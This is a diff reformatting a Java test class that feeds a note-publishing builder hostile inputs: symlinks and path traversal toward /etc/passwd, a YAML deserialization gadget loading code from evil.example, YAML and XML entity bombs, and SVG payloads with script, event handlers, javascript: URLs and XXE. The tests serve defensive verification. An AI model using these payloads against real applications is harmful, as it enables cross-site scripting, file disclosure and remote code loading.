@@ -63,8 +63,9 @@ class HostileFilesTest {
         Files.writeString(outside.resolve("secret.md"), "# Secret\n\n" + SECRET_TEXT + "\n");
         byte[] png = TestVault.image(40, 30, "png");
         Files.write(outside.resolve("secret.png"), png);
-        Files.writeString(outside.resolve("secret.svg"), "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>" + SECRET_TEXT
-                + "</text></svg>");
+        Files.writeString(
+                outside.resolve("secret.svg"),
+                "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>" + SECRET_TEXT + "</text></svg>");
         Files.writeString(outside.resolve("secret.mp4"), SECRET_TEXT);
         secretImageHash = Manifest.sha256(png);
         Files.writeString(vault.resolve("fine.md"), "# Fine\n\nA fine note.\n");
@@ -74,13 +75,18 @@ class HostileFilesTest {
     private record Built(BuildReport report, Path out, JsonNode issues) {
 
         List<String> issues(String kind) {
-            return StreamSupport.stream(issues.spliterator(), false).filter(i -> i.path("kind").asText().equals(kind))
-                    .map(i -> i.path("file").asText() + ":" + i.path("line").asInt() + " " + i.path("message").asText())
+            return StreamSupport.stream(issues.spliterator(), false)
+                    .filter(i -> i.path("kind").asText().equals(kind))
+                    .map(i -> i.path("file").asText() + ":" + i.path("line").asInt() + " "
+                            + i.path("message").asText())
                     .toList();
         }
 
         String html(String slug) throws IOException {
-            return Json.mapper().readTree(out.resolve("posts/" + slug + ".json").toFile()).path("html").asText();
+            return Json.mapper()
+                    .readTree(out.resolve("posts/" + slug + ".json").toFile())
+                    .path("html")
+                    .asText();
         }
 
         /** Every output file's bytes, as Latin-1 text (any byte sequence is searchable). */
@@ -88,8 +94,10 @@ class HostileFilesTest {
             StringBuilder all = new StringBuilder();
             try (Stream<Path> files = Files.walk(out)) {
                 for (Path f : files.filter(Files::isRegularFile).toList()) {
-                    all.append(f.getFileName()).append('\n')
-                            .append(new String(Files.readAllBytes(f), StandardCharsets.ISO_8859_1)).append('\n');
+                    all.append(f.getFileName())
+                            .append('\n')
+                            .append(new String(Files.readAllBytes(f), StandardCharsets.ISO_8859_1))
+                            .append('\n');
                 }
             }
             return all.toString();
@@ -103,12 +111,16 @@ class HostileFilesTest {
     private Built build(BuildOptions options) throws Exception {
         Path out = temp.resolve("out");
         BuildReport report = new AssetBuilder().build(vault, options, out, ProgressListener.NONE);
-        return new Built(report, out, Json.mapper().readTree(out.resolve("issues.json").toFile()));
+        return new Built(
+                report, out, Json.mapper().readTree(out.resolve("issues.json").toFile()));
     }
 
     private void assertNothingFromOutside(Built built) throws IOException {
         String everything = built.everything();
-        assertThat(everything).doesNotContain(SECRET_TEXT).doesNotContain(PASSWD_LINE).doesNotContain(secretImageHash);
+        assertThat(everything)
+                .doesNotContain(SECRET_TEXT)
+                .doesNotContain(PASSWD_LINE)
+                .doesNotContain(secretImageHash);
         assertThat(built.html("fine")).contains("A fine note.");
     }
 
@@ -145,7 +157,8 @@ class HostileFilesTest {
 
         Built built = build();
 
-        assertThat(built.issues(Issue.UNSAFE_SYMLINK)).extracting(i -> i.substring(0, i.indexOf(':')))
+        assertThat(built.issues(Issue.UNSAFE_SYMLINK))
+                .extracting(i -> i.substring(0, i.indexOf(':')))
                 .containsExactlyInAnyOrder("passwd.md", "relative.md", "hop.md", "chain.md", "dangling.md", "zero.md");
         assertThat(built.html("inside")).contains("A fine note.");
         assertNothingFromOutside(built);
@@ -171,10 +184,13 @@ class HostileFilesTest {
 
         Built built = build();
 
-        assertThat(built.issues(Issue.UNSAFE_SYMLINK)).containsExactlyInAnyOrder(
-                "escape:0 symbolic link to a folder outside the repository; not followed",
-                "etc:0 symbolic link to a folder outside the repository; not followed");
-        assertThat(built.report().posts()).as("the inner note once, not again through the link").isEqualTo(2);
+        assertThat(built.issues(Issue.UNSAFE_SYMLINK))
+                .containsExactlyInAnyOrder(
+                        "escape:0 symbolic link to a folder outside the repository; not followed",
+                        "etc:0 symbolic link to a folder outside the repository; not followed");
+        assertThat(built.report().posts())
+                .as("the inner note once, not again through the link")
+                .isEqualTo(2);
         assertNothingFromOutside(built);
     }
 
@@ -189,10 +205,13 @@ class HostileFilesTest {
 
         Built built = build();
 
-        assertThat(built.issues(Issue.UNSAFE_SYMLINK)).extracting(i -> i.substring(0, i.indexOf(':')))
+        assertThat(built.issues(Issue.UNSAFE_SYMLINK))
+                .extracting(i -> i.substring(0, i.indexOf(':')))
                 .containsExactlyInAnyOrder("images/leak.png", "images/leak.svg", "images/passwd.svg", "clip.mp4");
-        assertThat(built.html("gallery")).contains("<span class=\"missing-media\">leak.png</span>")
-                .doesNotContain("<img").doesNotContain("<video");
+        assertThat(built.html("gallery"))
+                .contains("<span class=\"missing-media\">leak.png</span>")
+                .doesNotContain("<img")
+                .doesNotContain("<video");
         assertThat(built.out().resolve("media")).isEmptyDirectory();
         assertNothingFromOutside(built);
     }
@@ -216,22 +235,38 @@ class HostileFilesTest {
 
         for (String folder : List.of("escape", "escape/sub", "./escape/sub")) {
             BuildOptions options = new BuildOptions(folder, List.of(), "/n", "/m", "", true, null, null, 1);
-            assertThatThrownBy(() -> new AssetBuilder().build(vault, options, temp.resolve("out-" + folder.length()),
-                    ProgressListener.NONE)).as(folder).isInstanceOf(TaskFailedException.class)
-                    .hasMessageContaining("repositoryFolder").hasMessageContaining("symbolic link");
+            assertThatThrownBy(() -> new AssetBuilder()
+                            .build(vault, options, temp.resolve("out-" + folder.length()), ProgressListener.NONE))
+                    .as(folder)
+                    .isInstanceOf(TaskFailedException.class)
+                    .hasMessageContaining("repositoryFolder")
+                    .hasMessageContaining("symbolic link");
         }
     }
 
     @Test
     void a_repository_folder_that_climbs_out_is_refused_naming_the_field() {
-        for (String folder : List.of("..", "../outside", "a/../../b", "a/..", "..\\outside", "/etc", "C:/Windows", "~/x",
-                "a\u0000b", "a\nb", "x".repeat(1025))) {
+        for (String folder : List.of(
+                "..",
+                "../outside",
+                "a/../../b",
+                "a/..",
+                "..\\outside",
+                "/etc",
+                "C:/Windows",
+                "~/x",
+                "a\u0000b",
+                "a\nb",
+                "x".repeat(1025))) {
             assertThatThrownBy(() -> BuildOptions.fromData(new TaskData(Map.of("repositoryFolder", folder))))
-                    .as(folder).isInstanceOf(InvalidTaskDataException.class).hasMessageContaining("data.repositoryFolder");
+                    .as(folder)
+                    .isInstanceOf(InvalidTaskDataException.class)
+                    .hasMessageContaining("data.repositoryFolder");
         }
         BuildOptions bypass = new BuildOptions("../outside", List.of(), "/n", "/m", "", true, null, null, 1);
         assertThatThrownBy(() -> new AssetBuilder().build(vault, bypass, temp.resolve("out"), ProgressListener.NONE))
-                .isInstanceOf(TaskFailedException.class).hasMessage("repositoryFolder leaves the repository");
+                .isInstanceOf(TaskFailedException.class)
+                .hasMessage("repositoryFolder leaves the repository");
     }
 
     // Paths in links and embeds.
@@ -291,8 +326,10 @@ class HostileFilesTest {
                 """);
         Path out = temp.resolve("enriched/job");
 
-        Map<String, Object> summary = new EnrichData().enrich(new EnrichData.Request(build, Optional.empty(), out,
-                Optional.empty(), 50), ProgressListener.NONE);
+        Map<String, Object> summary = new EnrichData()
+                .enrich(
+                        new EnrichData.Request(build, Optional.empty(), out, Optional.empty(), 50),
+                        ProgressListener.NONE);
 
         assertThat(out.resolve("posts/good.json")).isRegularFile();
         assertThat(temp.resolve("escaped.json")).doesNotExist();
@@ -311,10 +348,14 @@ class HostileFilesTest {
         Files.write(vault.resolve("bytes.md"), new byte[] {'a', ' ', (byte) 0xFF, ' ', 'b', '\n'});
         Built built = build();
 
-        Map<String, Object> enriched = new EnrichData().enrich(new EnrichData.Request(built.out(), Optional.empty(),
-                temp.resolve("enriched"), Optional.empty(), 50), ProgressListener.NONE);
+        Map<String, Object> enriched = new EnrichData()
+                .enrich(
+                        new EnrichData.Request(
+                                built.out(), Optional.empty(), temp.resolve("enriched"), Optional.empty(), 50),
+                        ProgressListener.NONE);
         EmbeddingReport embedded = new ComputeEmbeddings(new HashEmbedder(), new EmbeddingCache(temp.resolve("cache")))
-                .computeEmbeddings(built.out(), temp.resolve("embedded"), dev.repoworker.embeddings.ProgressListener.NONE);
+                .computeEmbeddings(
+                        built.out(), temp.resolve("embedded"), dev.repoworker.embeddings.ProgressListener.NONE);
 
         assertThat(enriched.get("posts")).isEqualTo(7);
         assertThat(embedded.posts()).isEqualTo(7);
@@ -334,9 +375,12 @@ class HostileFilesTest {
 
         Built built = build();
 
-        assertThat(built.issues(Issue.FILE_TOO_LARGE)).extracting(i -> i.substring(0, i.indexOf(':')))
-                .containsExactlyInAnyOrder("big.md", "images/big.png", "images/big.gif", "images/big.svg", "clip/big.mp4");
-        assertThat(built.html("uses")).contains("<span class=\"refused-media\">big.png</span>")
+        assertThat(built.issues(Issue.FILE_TOO_LARGE))
+                .extracting(i -> i.substring(0, i.indexOf(':')))
+                .containsExactlyInAnyOrder(
+                        "big.md", "images/big.png", "images/big.gif", "images/big.svg", "clip/big.mp4");
+        assertThat(built.html("uses"))
+                .contains("<span class=\"refused-media\">big.png</span>")
                 .contains("<span class=\"broken-link\">big</span>");
         assertThat(built.out().resolve("media")).isEmptyDirectory();
     }
@@ -349,7 +393,9 @@ class HostileFilesTest {
 
         Built built = build();
 
-        assertThat(built.issues(Issue.IMAGE_TOO_LARGE)).singleElement().asString()
+        assertThat(built.issues(Issue.IMAGE_TOO_LARGE))
+                .singleElement()
+                .asString()
                 .startsWith("images/bomb.png:0 image declares 50000x50000 pixels, over the limit");
         assertThat(built.html("bomb")).contains("<span class=\"refused-media\">bomb.png</span>");
         assertThat(built.out().resolve("media")).isEmptyDirectory();
@@ -421,11 +467,13 @@ class HostileFilesTest {
         Built built = build();
 
         assertThat(built.report().posts()).isEqualTo(15);
-        assertThat(built.issues(Issue.TOO_DEEP)).extracting(i -> i.substring(0, i.indexOf(':')))
+        assertThat(built.issues(Issue.TOO_DEEP))
+                .extracting(i -> i.substring(0, i.indexOf(':')))
                 .contains("quotes.md", "spaced-quotes.md", "bullets.md", "numbers.md", "indented.md", "stairs.md");
-        assertThat(built.issues(Issue.TOO_DEEP)).contains(
-                "quotes.md:1 note is nested too deeply to render (over 100 levels); shown as plain text",
-                "indented.md:101 note is nested too deeply to render (over 100 levels); shown as plain text");
+        assertThat(built.issues(Issue.TOO_DEEP))
+                .contains(
+                        "quotes.md:1 note is nested too deeply to render (over 100 levels); shown as plain text",
+                        "indented.md:101 note is nested too deeply to render (over 100 levels); shown as plain text");
         assertThat(built.html("quotes")).startsWith("<pre class=\"render-failed\">&gt;&gt;&gt;");
         assertThat(built.html("divs")).contains("<div><div>").contains("x");
         assertThat(built.issues(Issue.RENDER_FAILED)).isEmpty();
@@ -445,10 +493,13 @@ class HostileFilesTest {
         assertThat(built.html("prose")).startsWith("<p>lorem ipsum").hasSizeGreaterThan(tenMegabytes - 100);
         assertThat(built.html("some-links")).contains("<a href=\"/_repo/notes/fine\" class=\"internal-link\"");
         assertThat(built.html("unclosed")).startsWith("<p>[a](").hasSizeGreaterThan(1 << 20);
-        assertThat(built.issues).singleElement().satisfies(i -> assertThat(i.path("file").asText() + " "
-                + i.path("message").asText()).startsWith("emphasis-and-links.md note is too complex to render (a block needs ")
-                .endsWith(" steps to match its emphasis around its links, over " + BoundedInlineParser.MAX_DELIMITER_STEPS
-                        + "); shown as plain text"));
+        assertThat(built.issues)
+                .singleElement()
+                .satisfies(i -> assertThat(i.path("file").asText() + " "
+                                + i.path("message").asText())
+                        .startsWith("emphasis-and-links.md note is too complex to render (a block needs ")
+                        .endsWith(" steps to match its emphasis around its links, over "
+                                + BoundedInlineParser.MAX_DELIMITER_STEPS + "); shown as plain text"));
     }
 
     @Test
@@ -456,23 +507,36 @@ class HostileFilesTest {
         int tenMegabytes = 10 << 20;
         write("links.md", repeat("[see](fine.md) and [[fine]] ", tenMegabytes) + "\n");
         write("unclosed.md", repeat("[a](", tenMegabytes) + "\n");
-        write("mixed.md", repeat("w [[fine]] ==hi== #tag $x$ *em* **b** [l](b.md) <b>x</b> `c` &amp; "
-                + "https://e.example/x [^1] ~~s~~ ", tenMegabytes) + "\n");
+        write(
+                "mixed.md",
+                repeat(
+                                "w [[fine]] ==hi== #tag $x$ *em* **b** [l](b.md) <b>x</b> `c` &amp; "
+                                        + "https://e.example/x [^1] ~~s~~ ",
+                                tenMegabytes)
+                        + "\n");
         BuildOptions options = BuildOptions.defaults()
                 .withLimits(BuildOptions.Limits.defaults().withMaxRenderCpuMillis(5_000));
 
         Built built = build(options);
 
         assertThat(built.report().posts()).isEqualTo(4);
-        List<String> reported = Stream.concat(built.issues(Issue.HTML_TOO_LARGE).stream(),
-                built.issues(Issue.TOO_COMPLEX).stream()).map(i -> i.substring(0, i.indexOf(':'))).toList();
-        assertThat(reported).as("links render to more HTML than a post may hold; emphasis around links is refused")
+        List<String> reported = Stream.concat(
+                        built.issues(Issue.HTML_TOO_LARGE).stream(), built.issues(Issue.TOO_COMPLEX).stream())
+                .map(i -> i.substring(0, i.indexOf(':')))
+                .toList();
+        assertThat(reported)
+                .as("links render to more HTML than a post may hold; emphasis around links is refused")
                 .contains("links.md", "mixed.md");
-        // 10 MB of unclosed brackets parse in linear time, close to the 5 s CPU budget on a slow machine: either outcome.
-        assertThat(built.html("unclosed")).matches(html -> html.startsWith("<p>[a](")
-                || html.startsWith("<pre class=\"render-failed\">[a]("), "rendered, or shown as plain text");
+        // 10 MB of unclosed brackets parse in linear time, close to the 5 s CPU budget on a slow machine: either
+        // outcome.
+        assertThat(built.html("unclosed"))
+                .matches(
+                        html -> html.startsWith("<p>[a](") || html.startsWith("<pre class=\"render-failed\">[a]("),
+                        "rendered, or shown as plain text");
         for (String slug : List.of("links", "unclosed", "mixed")) {
-            assertThat(built.html(slug).length()).as(slug).isBetween(1 << 20, options.limits().maxHtmlChars());
+            assertThat(built.html(slug).length())
+                    .as(slug)
+                    .isBetween(1 << 20, options.limits().maxHtmlChars());
         }
     }
 
@@ -486,11 +550,15 @@ class HostileFilesTest {
 
         Built built = build(options);
 
-        assertThat(built.issues(Issue.HTML_TOO_LARGE)).extracting(i -> i.substring(0, i.indexOf(':')))
+        assertThat(built.issues(Issue.HTML_TOO_LARGE))
+                .extracting(i -> i.substring(0, i.indexOf(':')))
                 .containsExactlyInAnyOrder("angles.md", "images.md");
-        assertThat(built.html("angles")).startsWith("<pre class=\"render-failed\">&lt;&lt;").endsWith("\u2026</pre>")
+        assertThat(built.html("angles"))
+                .startsWith("<pre class=\"render-failed\">&lt;&lt;")
+                .endsWith("\u2026</pre>")
                 .hasSizeLessThanOrEqualTo(1_000_000);
-        assertThat(built.html("images")).startsWith("<pre class=\"render-failed\">![[photo.png]]")
+        assertThat(built.html("images"))
+                .startsWith("<pre class=\"render-failed\">![[photo.png]]")
                 .hasSizeLessThanOrEqualTo(1_000_000);
     }
 
@@ -504,23 +572,76 @@ class HostileFilesTest {
     void invalid_utf8_is_replaced_and_reported_with_its_line() throws Exception {
         ByteArrayOutputStream note = new ByteArrayOutputStream();
         note.writeBytes("---\ntitle: T\u00e9st\n---\n# Heading\n\nfine line\n".getBytes(StandardCharsets.UTF_8));
-        note.writeBytes(new byte[] {'b', 'a', 'd', ' ', (byte) 0xFF, ' ', (byte) 0xC3, '(', ' ', (byte) 0xC0, (byte) 0xAF,
-                ' ', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '\n', 'e', 'n', 'd', ' ', (byte) 0xF0, (byte) 0x9F});
+        note.writeBytes(new byte[] {
+            'b',
+            'a',
+            'd',
+            ' ',
+            (byte) 0xFF,
+            ' ',
+            (byte) 0xC3,
+            '(',
+            ' ',
+            (byte) 0xC0,
+            (byte) 0xAF,
+            ' ',
+            (byte) 0xED,
+            (byte) 0xA0,
+            (byte) 0x80,
+            '\n',
+            'e',
+            'n',
+            'd',
+            ' ',
+            (byte) 0xF0,
+            (byte) 0x9F
+        });
         Files.write(vault.resolve("bytes.md"), note.toByteArray());
-        Files.write(vault.resolve("front.md"), new byte[] {'-', '-', '-', '\n', 't', 'i', 't', 'l', 'e', ':', ' ',
-                (byte) 0xFE, '\n', '-', '-', '-', '\n', 'b', 'o', 'd', 'y', '\n'});
-        Files.write(vault.resolve(".repoignore"), new byte[] {'#', ' ', (byte) 0xFF, '\n', 's', 'k', 'i', 'p', '.', 'm', 'd', '\n'});
+        Files.write(vault.resolve("front.md"), new byte[] {
+            '-',
+            '-',
+            '-',
+            '\n',
+            't',
+            'i',
+            't',
+            'l',
+            'e',
+            ':',
+            ' ',
+            (byte) 0xFE,
+            '\n',
+            '-',
+            '-',
+            '-',
+            '\n',
+            'b',
+            'o',
+            'd',
+            'y',
+            '\n'
+        });
+        Files.write(
+                vault.resolve(".repoignore"),
+                new byte[] {'#', ' ', (byte) 0xFF, '\n', 's', 'k', 'i', 'p', '.', 'm', 'd', '\n'});
         write("skip.md", "ignored\n");
         run("sh", "-c", "printf 'name body' > \"$1\"/\"$(printf 'bad\\377name.md')\"", "sh", vault.toString());
 
         Built built = build();
 
-        assertThat(built.issues(Issue.INVALID_UTF8)).containsExactlyInAnyOrder(
-                ".repoignore:1 is not valid UTF-8 (first bad byte at offset 2); invalid bytes shown as \uFFFD",
-                "bytes.md:7 is not valid UTF-8 (first bad byte at offset 46); invalid bytes shown as \uFFFD",
-                "front.md:2 is not valid UTF-8 (first bad byte at offset 11); invalid bytes shown as \uFFFD");
-        assertThat(built.html("bytes")).contains("fine line").contains("bad \uFFFD \uFFFD(").contains("end \uFFFD");
-        assertThat(Json.mapper().readTree(built.out().resolve("posts/bytes.json").toFile()).path("title").asText())
+        assertThat(built.issues(Issue.INVALID_UTF8))
+                .containsExactlyInAnyOrder(
+                        ".repoignore:1 is not valid UTF-8 (first bad byte at offset 2); invalid bytes shown as \uFFFD",
+                        "bytes.md:7 is not valid UTF-8 (first bad byte at offset 46); invalid bytes shown as \uFFFD",
+                        "front.md:2 is not valid UTF-8 (first bad byte at offset 11); invalid bytes shown as \uFFFD");
+        assertThat(built.html("bytes"))
+                .contains("fine line")
+                .contains("bad \uFFFD \uFFFD(")
+                .contains("end \uFFFD");
+        assertThat(Json.mapper()
+                        .readTree(built.out().resolve("posts/bytes.json").toFile())
+                        .path("title")
+                        .asText())
                 .isEqualTo("T\u00e9st");
         assertThat(built.html("front")).contains("body");
         assertThat(built.out().resolve("posts/skip.json")).doesNotExist();
@@ -544,25 +665,38 @@ class HostileFilesTest {
         write("recursive.md", "---\na: &a [*a, *a]\nb: &b {self: *b}\n---\nrecursive body\n");
         StringBuilder doubling = new StringBuilder("---\na0: &a0 [lol, lol]\n");
         for (int i = 1; i <= 25; i++) {
-            doubling.append("a").append(i).append(": &a").append(i).append(" [*a").append(i - 1).append(", *a")
-                    .append(i - 1).append("]\n");
+            doubling.append("a")
+                    .append(i)
+                    .append(": &a")
+                    .append(i)
+                    .append(" [*a")
+                    .append(i - 1)
+                    .append(", *a")
+                    .append(i - 1)
+                    .append("]\n");
         }
         write("doubling.md", doubling + "---\ndoubling body\n");
         write("nested.md", "---\nx: " + "[".repeat(100_000) + "]".repeat(100_000) + "\n---\nnested body\n");
         write("flow-map.md", "---\nx: " + "{a: ".repeat(50_000) + "1" + "}".repeat(50_000) + "\n---\nflow-map body\n");
         write("huge.md", "---\nx: \"" + "y".repeat(300_000) + "\"\n---\nhuge body\n");
-        write("tags.md", "---\nx: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
-                + "[\"http://evil.example/\"]]]]\n---\ntags body\n");
+        write(
+                "tags.md",
+                "---\nx: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
+                        + "[\"http://evil.example/\"]]]]\n---\ntags body\n");
         write("unclosed.md", "---\n" + "key: value\n".repeat(100_000) + "unclosed body\n");
 
         Built built = build();
 
-        List<String> hostile = List.of("merge", "recursive", "doubling", "nested", "flow-map", "huge", "tags", "unclosed");
-        assertThat(built.issues(Issue.FRONTMATTER)).extracting(i -> i.substring(0, i.indexOf(':')))
+        List<String> hostile =
+                List.of("merge", "recursive", "doubling", "nested", "flow-map", "huge", "tags", "unclosed");
+        assertThat(built.issues(Issue.FRONTMATTER))
+                .extracting(i -> i.substring(0, i.indexOf(':')))
                 .containsExactlyInAnyOrderElementsOf(Stream.concat(Stream.of("laughs"), hostile.stream())
-                        .map(n -> n + ".md").toList());
-        assertThat(built.issues(Issue.FRONTMATTER)).contains("doubling.md:1 frontmatter expands to more than "
-                + Frontmatter.MAX_VALUES + " values (through aliases); ignored");
+                        .map(n -> n + ".md")
+                        .toList());
+        assertThat(built.issues(Issue.FRONTMATTER))
+                .contains("doubling.md:1 frontmatter expands to more than " + Frontmatter.MAX_VALUES
+                        + " values (through aliases); ignored");
         for (String slug : hostile) {
             assertThat(built.html(slug)).as(slug).contains(slug + " body");
         }
@@ -577,28 +711,58 @@ class HostileFilesTest {
         List<String[]> hostile = new ArrayList<>(List.of(
                 new String[] {"script", "<svg " + ns + "><script>alert(1)</script></svg>"},
                 new String[] {"script-cdata", "<svg " + ns + "><script><![CDATA[alert(1)]]></script></svg>"},
-                new String[] {"namespaced-script", "<s:svg xmlns:s=\"http://www.w3.org/2000/svg\"><s:script>alert(1)</s:script></s:svg>"},
+                new String[] {
+                    "namespaced-script",
+                    "<s:svg xmlns:s=\"http://www.w3.org/2000/svg\"><s:script>alert(1)</s:script></s:svg>"
+                },
                 new String[] {"onload", "<svg " + ns + " onload=\"alert(1)\"/>"},
                 new String[] {"onclick", "<svg " + ns + "><rect width=\"5\" height=\"5\" OnClick=\"alert(1)\"/></svg>"},
-                new String[] {"foreign", "<svg " + ns + "><foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\">"
-                        + "<img src=\"x\" onerror=\"alert(1)\"/></body></foreignObject></svg>"},
+                new String[] {
+                    "foreign",
+                    "<svg " + ns + "><foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\">"
+                            + "<img src=\"x\" onerror=\"alert(1)\"/></body></foreignObject></svg>"
+                },
                 new String[] {"href", "<svg " + ns + "><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>"},
-                new String[] {"href-entity", "<svg " + ns + "><a href=\"jav&#x09;ascript&#x3A;alert(1)\"><text>x</text></a></svg>"},
-                new String[] {"animate", "<svg " + ns + "><a><set attributeName=\"href\" to=\"https://e.example\"/>"
-                        + "<text>x</text></a></svg>"},
-                new String[] {"animate-values", "<svg " + ns + "><animate attributeName=\"x\" values=\"javascript:alert(1)\"/></svg>"},
-                new String[] {"data-html", "<svg " + ns + "><image href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\"/></svg>"},
+                new String[] {
+                    "href-entity", "<svg " + ns + "><a href=\"jav&#x09;ascript&#x3A;alert(1)\"><text>x</text></a></svg>"
+                },
+                new String[] {
+                    "animate",
+                    "<svg " + ns + "><a><set attributeName=\"href\" to=\"https://e.example\"/>"
+                            + "<text>x</text></a></svg>"
+                },
+                new String[] {
+                    "animate-values",
+                    "<svg " + ns + "><animate attributeName=\"x\" values=\"javascript:alert(1)\"/></svg>"
+                },
+                new String[] {
+                    "data-html",
+                    "<svg " + ns + "><image href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\"/></svg>"
+                },
                 new String[] {"use-data", "<svg " + ns + "><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>"},
-                new String[] {"style-import", "<svg " + ns + "><style>@import url(https://e.example/x.css);</style></svg>"},
-                new String[] {"style-attr", "<svg " + ns + "><rect style=\"background:url(javascript:alert(1))\"/></svg>"},
+                new String[] {
+                    "style-import", "<svg " + ns + "><style>@import url(https://e.example/x.css);</style></svg>"
+                },
+                new String[] {
+                    "style-attr", "<svg " + ns + "><rect style=\"background:url(javascript:alert(1))\"/></svg>"
+                },
                 new String[] {"iframe", "<svg " + ns + "><iframe src=\"https://e.example\"/></svg>"},
-                new String[] {"xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
-                        + "<svg " + ns + "><text>&xxe;</text></svg>"},
-                new String[] {"xxe-outside", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY s SYSTEM \"file://"
-                        + outside.resolve("secret.md") + "\">]><svg " + ns + "><text>&s;</text></svg>"},
-                new String[] {"laughs", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">"
-                        + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]>"
-                        + "<svg " + ns + "><text>&d;</text></svg>"},
+                new String[] {
+                    "xxe",
+                    "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>" + "<svg " + ns
+                            + "><text>&xxe;</text></svg>"
+                },
+                new String[] {
+                    "xxe-outside",
+                    "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY s SYSTEM \"file://" + outside.resolve("secret.md")
+                            + "\">]><svg " + ns + "><text>&s;</text></svg>"
+                },
+                new String[] {
+                    "laughs",
+                    "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">"
+                            + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]>"
+                            + "<svg " + ns + "><text>&d;</text></svg>"
+                },
                 new String[] {"broken", "<svg " + ns + "><text>unclosed"}));
         Files.createDirectories(vault.resolve("svg"));
         for (String[] svg : hostile) {
@@ -614,14 +778,22 @@ class HostileFilesTest {
 
         Built built = build();
 
-        assertThat(built.issues(Issue.ACTIVE_CONTENT)).extracting(i -> i.substring(0, i.indexOf(':')))
-                .containsExactlyInAnyOrderElementsOf(hostile.stream().map(s -> "svg/" + s[0] + ".svg").toList());
-        assertThat(built.issues(Issue.ACTIVE_CONTENT)).anyMatch(i -> i.startsWith("svg/script.svg:0 SVG holds active "
-                + "content (a <script> element); not published"));
-        assertThat(built.html("drawings")).contains("<span class=\"refused-media\">script.svg</span>")
-                .contains("<img class=\"media\" src=\"/_repo/medias/" + Manifest.sha256(plain.getBytes(StandardCharsets.UTF_8)) + ".svg\"");
+        assertThat(built.issues(Issue.ACTIVE_CONTENT))
+                .extracting(i -> i.substring(0, i.indexOf(':')))
+                .containsExactlyInAnyOrderElementsOf(
+                        hostile.stream().map(s -> "svg/" + s[0] + ".svg").toList());
+        assertThat(built.issues(Issue.ACTIVE_CONTENT))
+                .anyMatch(i -> i.startsWith(
+                        "svg/script.svg:0 SVG holds active " + "content (a <script> element); not published"));
+        assertThat(built.html("drawings"))
+                .contains("<span class=\"refused-media\">script.svg</span>")
+                .contains("<img class=\"media\" src=\"/_repo/medias/"
+                        + Manifest.sha256(plain.getBytes(StandardCharsets.UTF_8)) + ".svg\"");
         try (Stream<Path> media = Files.list(built.out().resolve("media"))) {
-            assertThat(media.map(p -> p.getFileName().toString())).singleElement().asString().endsWith(".svg");
+            assertThat(media.map(p -> p.getFileName().toString()))
+                    .singleElement()
+                    .asString()
+                    .endsWith(".svg");
         }
         assertNothingFromOutside(built);
     }
